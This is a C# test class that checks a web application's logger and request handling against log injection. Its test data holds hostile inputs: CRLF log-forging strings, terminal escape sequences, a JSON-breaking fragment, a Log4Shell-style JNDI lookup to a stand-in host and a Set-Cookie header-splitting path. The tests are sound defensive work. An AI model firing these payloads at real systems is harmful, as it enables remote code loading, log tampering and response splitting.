using System.Text.Json;
using Microsoft.Extensions.Configuration;
using Microsoft.Extensions.Logging;
using Microsoft.Extensions.Logging.Abstractions;

namespace ArboDossier.Web.Tests;

/// <summary>Whatever stands in a value that is logged: it makes no entry of its own, and tells the terminal of its reader nothing.</summary>
[Trait("Rule", "R-063")]
public sealed class LogInjectionTests : IAsyncLifetime
{
    private SampleHost _host = null!;

    public async Task InitializeAsync() => _host = await SampleHost.StartAsync();

    public async Task DisposeAsync() => await _host.DisposeAsync();

    [Theory]
    [InlineData("good\r\n2026-11-28T00:00:00.000Z Information Category: forged")]
    [InlineData("good\nforged")]
    [InlineData("good\rforged")]
    [InlineData("good\u0085forged\u2028forged\u2029forged\vforged\fforged")]
    [InlineData("\u001b[2J\u001b[31mforged\u009b2J\u0007\b\b\b")]
    [InlineData("\0forged\u007f")]
    [InlineData("\",\"level\":\"Information\",\"event\":\"forged")]
    [InlineData("{Zone}{State}${jndi:ldap://kwaad.example/a}")]
    public void A_value_makes_no_line_of_its_own_and_no_member(string value)
    {
        var plain = Logged([], value);
        plain.Should().StartWith("20").And.Contain("Warning Category: it failed (");
        plain.Count(char.IsControl).Should().Be(0);
        plain.Split('\u2028', '\u2029').Should().ContainSingle();

        var json = Logged(new() { ["Logging:Json"] = "true" }, value);
        json.Count(char.IsControl).Should().Be(0);
        using var read = JsonDocument.Parse(json);
        read.RootElement.EnumerateObject().Select(x => x.Name).Should().Equal("time", "level", "category", "event", "Kind");
        read.RootElement.GetProperty("level").GetString().Should().Be("Warning");
        read.RootElement.GetProperty("Kind").GetString().Should().Be(value);
    }

    [Fact]
    public async Task Nothing_of_a_request_reaches_the_log()
    {
        _host.Log.Lines.Clear();
        foreach (var path in (string[])["/nothing%0d%0a2026-11-28%20forged", "/form?x=%0aforged", "/fails?what=%0d%0aforged", "/%1b%5b2Jforged", "/language/en?back=%0d%0aSet-Cookie:%20forged=1"])
        {
            var answer = await _host.SendAsync(HttpMethod.Get, path, null, ("User-Agent", "forged\t\u007f"), ("Referer", "http://kwaad.example/forged"), ("X-Forwarded-For", "forged"), ("Accept-Language", "forged"));
            answer.Headers.Should().NotContain(x => x.Key == "Set-Cookie" && x.Value.Contains("forged", StringComparison.Ordinal));
            (answer.Headers.TryGetValue("Location", out var location) ? location : "/").Should().Be("/");
        }

        string.Join('\n', _host.Log.Lines).Should().NotContain("forged");
    }

    private static string Logged(Dictionary<string, string?> settings, string value)
    {
        using var text = new StringWriter();
        List<KeyValuePair<string, object?>> state = [new("Kind", value), new("{OriginalFormat}", "it failed ({Kind})")];
        new QuietLog(new ConfigurationBuilder().AddInMemoryCollection(settings).Build()).Write(
            new LogEntry<IReadOnlyList<KeyValuePair<string, object?>>>(LogLevel.Warning, "Category", default, state, null, (_, _) => ""), null, text);
        return text.ToString().TrimEnd('\n');
    }
}
